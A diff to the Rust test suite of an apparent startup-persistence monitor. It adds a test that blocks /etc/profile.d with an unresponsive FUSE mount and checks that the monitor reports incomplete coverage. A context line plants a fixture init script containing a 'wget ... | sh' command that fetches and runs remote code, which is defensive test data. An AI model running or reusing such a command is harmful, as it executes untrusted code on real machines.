@@ -496,6 +496,21 @@ fn a_look_that_nothing_could_end_is_let_go_of_once_it_ends() {
 }
 
 #[test]
+fn a_startup_place_that_does_not_answer_is_not_watched_and_stops_nothing() {
+    need_root();
+    let state = temporary();
+    let script = r#"exec 3<>/dev/fuse
+        mount -i -t fuse -o fd=3,rootmode=40000,user_id=0,group_id=0 none /etc/profile.d && exec "$0" monitor \
+            --format json --interval 3600 --only startup-volatile --state "$1" --timeout 1"#;
+    let mut command = Command::new("unshare");
+    command.args(["-m", "sh", "-c", script, GATEWATCH]).arg(state.path());
+    let monitor = Monitor::start(&mut command);
+    assert_eq!(monitor.look().1, "incomplete");
+    let said = monitor.end(Signal::SIGTERM);
+    assert!(said.contains("are not watched; each full look sees them"), "{said}");
+}
+
+#[test]
 fn a_file_is_what_there_is_and_not_what_is_news() {
     let (tree, state) =
         (Tree::healthy().file("etc/init.d/S99x", "wget -O- http://192.0.2.1/x | sh\n"), temporary());
